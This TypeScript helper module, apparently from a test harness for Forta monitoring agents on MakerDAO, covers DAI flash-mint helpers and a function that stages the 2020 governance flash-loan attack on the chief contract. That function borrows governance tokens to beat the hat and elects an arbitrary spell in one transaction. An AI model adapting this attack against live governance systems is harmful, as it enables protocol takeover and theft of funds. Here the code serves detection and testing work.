/**
 * Flash-loan helpers: a plain DAI flash mint through DssFlash, and the October 2020 governance
 * flash-loan pattern against the chief.
 */
import { ethers } from "forta-agent";
import { deployContract, mined } from "../deploy";
import { wad } from "../units";
import type { MakerSystem } from "../maker";
import type { SpellCall } from "./governance";

/** Flash-mint `amount` DAI (ERC-3156) and repay it in the same transaction. */
export async function flashMint(mk: MakerSystem, amount: string, from: ethers.Signer = mk.chain.signer(8)): Promise<ethers.ContractReceipt> {
  const borrower = await deployContract(from, "DaiFlashBorrower", mk.flash.address, mk.vat.address);
  return mined(borrower.borrow(mk.dai.address, wad(amount)));
}

/** Flash-borrow `rad` internal dai (vatDaiFlashLoan) and repay it in the same transaction. */
export async function vatDaiFlashLoan(mk: MakerSystem, rad: ethers.BigNumberish, from: ethers.Signer = mk.chain.signer(8)): Promise<ethers.ContractReceipt> {
  const borrower = await deployContract(from, "DaiFlashBorrower", mk.flash.address, mk.vat.address);
  return mined(borrower.borrowVatDai(rad));
}

export interface GovAttack {
  lender: ethers.Contract;
  attacker: ethers.Contract;
  /** The spell the attacker elected (a DssSpell carrying `calls`, not yet scheduled). */
  spell: ethers.Contract;
  receipt: ethers.ContractReceipt;
}

/**
 * The governance flash-loan pattern: a lending pool holds `poolSize` governance tokens; the attacker
 * borrows enough to beat the hat, locks them in the chief, votes for its spell, lifts it, frees and
 * repays, in one transaction. Succeeds against `chiefWithoutFlashGuard` deployments; against
 * ds-chief 1.2 the free() in the same block reverts, and so does the whole attack.
 */
export async function governanceFlashLoanAttack(
  mk: MakerSystem,
  opts: { calls?: SpellCall[]; poolSize?: string; attacker?: ethers.Signer } = {},
): Promise<GovAttack> {
  const eoa = opts.attacker ?? mk.chain.signer(7);
  const lender = await deployContract(eoa, "GovLender");
  const pool = wad(opts.poolSize ?? "500000");
  await mk.asPauseProxy((p) => mined(mk.gov.connect(p)["mint(address,uint256)"](lender.address, pool)));

  const action = await deployContract(eoa, "SpellAction");
  const calls = opts.calls ?? [];
  const sig = action.interface.encodeFunctionData("execute", [calls.map((c) => c.to), calls.map((c) => c.data)]);
  const expiration = (await mk.chain.timestamp()) + 30 * 24 * 3600;
  const spell = await deployContract(eoa, "DssSpell", mk.pause.address, action.address, sig, "flash-loan spell", expiration);

  const attacker = await deployContract(eoa, "GovFlashAttacker", lender.address, mk.chief.address, mk.gov.address);
  const hatApprovals: ethers.BigNumber = await mk.chief.approvals(await mk.chief.hat());
  const amount = hatApprovals.add(wad("1"));
  if (amount.gt(pool)) throw new Error(`governanceFlashLoanAttack: the pool (${opts.poolSize ?? "500000"}) cannot beat the hat's approvals`);
  const receipt = await mined(attacker.attack(spell.address, amount, { gasLimit: 3_000_000 }));
  return { lender, attacker, spell, receipt };
}
